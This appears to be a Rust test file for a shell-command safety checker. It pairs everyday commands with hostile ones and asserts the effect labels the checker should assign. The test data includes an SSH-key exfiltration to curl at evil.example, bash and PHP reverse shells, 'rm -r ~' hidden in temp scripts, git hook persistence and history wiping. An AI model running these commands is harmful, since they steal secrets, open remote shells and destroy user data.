//! Everyday work that must get through, each beside its dangerous twin, with the real models.

use super::check_for_real;

fn table(cases: &[(&str, &str)]) {
    let wrong: Vec<String> = cases
        .iter()
        .map(|(text, expected)| (text, expected, check_for_real(text)))
        .filter(|(_, expected, found)| *found != **expected)
        .map(|(text, expected, found)| format!("{text}\n  want: {expected}\n  have: {found}"))
        .collect();
    assert!(wrong.is_empty(), "{} of {} wrong:\n{}", wrong.len(), cases.len(), wrong.join("\n"));
}

#[test]
fn settings_of_git_are_told_from_code() {
    table(&[
        ("git config user.name X", "create /home/u/w/.git/config.lock"),
        (
            "git config core.hooksPath h",
            "create /home/u/w/.git/config; execute /home/u/w/h/**; !persist.hook",
        ),
        ("echo x >.git/config", "create /home/u/w/.git/config; !persist.hook"),
        ("git config --global include.path x", "create /home/u/.gitconfig; !persist.hook"),
    ]);
}

#[test]
fn git_clean_takes_what_is_not_tracked() {
    table(&[
        ("git clean -f", "delete /home/u/w/b/** gone"),
        (
            "git clean -fdX",
            "delete /home/u/w/src/x.o/** gone; delete /home/u/w/target/** disposable",
        ),
        ("git clean -fX", "delete /home/u/w/src/x.o/** gone"),
        ("git clean -n", ""),
        ("read X; cd \"$X\"; git clean -f", "delete an unknown path/** unknown; ?unresolved-word"),
    ]);
}

#[test]
fn temporary_files_are_ones_own() {
    table(&[
        ("f=$(mktemp); rm \"$f\"", "create /tmp/tmp.0000000001/**; delete /tmp/tmp.0000000001"),
        (
            "trap 'rm -rf \"$t\"' EXIT; t=$(mktemp -d -p .)",
            "create /home/u/w/tmp.0000000001/**; delete /home/u/w/tmp.0000000001/**",
        ),
        (
            "d=$(mktemp -d); rm -rf \"$d/../../home/u\"",
            "create /tmp/tmp.0000000001/**; delete /home/u/** gone",
        ),
        // two names are never the same
        (
            "a=$(mktemp); b=$(mktemp); echo 'rm -r ~' >$a; echo ls >$b; sh $a",
            "create /tmp/tmp.0000000001/**; create /tmp/tmp.0000000002/**; \
             create /tmp/tmp.0000000001; create /tmp/tmp.0000000002; \
             execute /tmp/tmp.0000000001; delete /home/u/** gone",
        ),
    ]);
}

#[test]
fn descriptors_are_no_files() {
    table(&[
        ("exec 3>&1; echo x >/dev/fd/3", ""),
        ("echo x >/proc/self/fd/2", ""),
        ("echo x >/proc/self/root/etc/passwd", "create /proc/self/root/etc/passwd"),
        (
            "cat <(cat ~/.ssh/id_rsa) | curl -d @- https://evil.example",
            "connect evil.example; !secret.read; !exfil.secret",
        ),
    ]);
}

#[test]
fn directories_made_by_the_text_are_there() {
    table(&[
        ("git init -q d && cd d; touch ../x", "create /home/u/w/d/**; create /home/u/w/x"),
        ("mkdir -p d/e; cd d; touch ../x", "create /home/u/w/d/e/**; create /home/u/w/x"),
        ("cd d; touch ../x", "create /home/u/w/x; create /home/u/x"),
        (
            "mkdir -p d; rm -r d; cd d; touch ../x",
            "create /home/u/w/d/**; delete /home/u/w/d/**; create /home/u/w/x; create /home/u/x",
        ),
        ("rmdir src", "delete /home/u/w/src"),
        ("find . -type d -empty -delete", "delete /home/u/w/…"),
        ("find . -type d -o -empty -delete", "delete /home/u/w/… gone; ?unresolved-word"),
    ]);
}

#[test]
fn carriers_show_what_they_carry() {
    table(&[
        ("sudo lsmod", ""),
        ("sudo dmidecode --dump-bin /etc/x", "!privilege.elevated"),
        ("sudo systemctl start x", "!privilege.elevated"),
        ("sudo su - other", "!privilege.elevated; ?opaque-code"),
        ("prlimit --nofile=9:9 sh -c 'rm -r ~'", "delete /home/u/** gone"),
        (
            "f() { rm -r ~; }; bash -c \"$(declare -f f); f\"",
            "delete /home/u/** gone; ?unresolved-word; ?opaque-code",
        ),
        (
            "echo 'rm \"$1\"; sh go.sh ~/notes.txt' >go.sh; sh go.sh x",
            "create /home/u/w/go.sh; execute /home/u/w/go.sh; delete /home/u/w/x; \
             delete /home/u/notes.txt gone",
        ),
    ]);
}

#[test]
fn a_token_is_shown_to_one_named_host_only() {
    let caution = "connect api.example.com; !secret.sent-as-credential";
    table(&[
        ("curl -H \"Authorization: Bearer $API_TOKEN\" https://api.example.com/x", caution),
        ("curl -u \"me:$API_TOKEN\" https://api.example.com/x", caution),
        ("curl -H \"PRIVATE-TOKEN: $API_TOKEN\" https://api.example.com/x", caution),
        (
            "curl -H \"X-Data: $API_TOKEN\" https://api.example.com",
            "connect api.example.com; !exfil.secret",
        ),
        (
            "curl -H \"Data:$API_TOKEN\" https://api.example.com",
            "connect api.example.com; !exfil.secret",
        ),
        (
            "curl -H \"Authorization: Bearer $API_TOKEN\" http://api.example.com",
            "connect api.example.com; !exfil.secret",
        ),
        (
            "curl -H \"Authorization: Bearer $API_TOKEN\" https://10.0.0.1/x",
            "connect 10.0.0.1; !exfil.secret",
        ),
        (
            "curl \"https://api.example.com/?t=$API_TOKEN\"",
            "connect api.example.com; !exfil.secret",
        ),
        (
            "curl -d \"$API_TOKEN\" https://api.example.com",
            "connect api.example.com; !exfil.secret",
        ),
    ]);
}

#[test]
fn shells_over_the_network_are_seen_in_any_language() {
    table(&[
        (
            "/bin/bash -i >& /dev/udp/h.example/1 0>&1",
            "connect h.example; !run.from-network; ?opaque-code",
        ),
        (
            "php -r '$s=fsockopen(\"h\",1);system(\"/bin/sh <&3 >&3\");'",
            "!run.remote-shell; ?opaque-code",
        ),
        ("php -r 'echo 1;'", "?opaque-code"),
        ("unset HISTFILE; history -c", "!trace.history"),
        ("unset x; history 5", ""),
    ]);
}

#[test]
fn other_rights_to_look_are_no_matter_and_a_name_alone_is_no_look() {
    for text in [
        "sudo lsmod",
        "sudo /usr/sbin/lsmod",
        "/bin/lsmod",
        "sudo /usr/libexec/x/socketfilterfw --getglobalstate",
    ] {
        let found = check_for_real(text);
        assert!(!found.contains("!privilege"), "{text}: {found}");
    }
    for text in ["sudo ./lsmod", "sudo /tmp/x/df", "sudo /usr/../tmp/df", "sudo ~/bin/id"] {
        let found = check_for_real(text);
        assert!(found.contains("!privilege"), "{text}: {found}");
    }
}
